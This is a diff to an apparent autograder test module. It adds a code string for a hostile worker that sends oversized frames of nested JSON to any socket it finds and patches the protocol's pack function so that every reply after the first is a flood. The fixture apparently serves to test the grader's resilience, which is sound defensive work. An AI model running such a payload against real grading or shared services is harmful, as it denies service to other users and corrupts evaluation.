@@ -697,3 +697,43 @@ def write_attack(attack: Attack, root: Path, token: str, other: tuple[int, str] 
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_text(text, encoding="utf-8")
     return folder
+
+
+# A worker that tries to slow the grader down for everyone graded beside it (issue 14, class 1):
+# it raises its socket's send buffer and queues replies before it is asked, and every reply it
+# sends is a 4 MB header of nested empty lists (seconds of parsing for a naive reader).
+FLOOD = '''
+
+import json as _json, os as _os, socket as _socket, stat as _stat, struct as _struct
+import autograder.protocol as _protocol
+
+_HEADER = _json.dumps({"body": {"ok": [[]] * (_protocol.MAX_HEADER_BYTES // 4 - 16)},
+                       "arrays": []}, separators=(",", ":")).encode()
+_FRAME = _struct.pack("!QQ", len(_HEADER), 0) + _HEADER
+
+def _flood():
+    for fd in range(3, 64):
+        try:
+            if not _stat.S_ISSOCK(_os.fstat(fd).st_mode):
+                continue
+            sock = _socket.socket(fileno=_os.dup(fd))
+            sock.setsockopt(_socket.SOL_SOCKET, _socket.SO_SNDBUF, 64 * 1024 * 1024)
+            sock.setblocking(False)
+            for _ in range(16):
+                sock.send(_FRAME)
+        except OSError:
+            pass
+
+_real_pack = _protocol.pack
+_replies = []
+
+def _pack(body, arrays):  # the import is answered honestly; every later reply floods
+    _replies.append(1)
+    if len(_replies) == 1:
+        return _real_pack(body, arrays)
+    if len(_replies) == 2:
+        _flood()
+    return _FRAME
+
+_protocol.pack = _pack
+'''
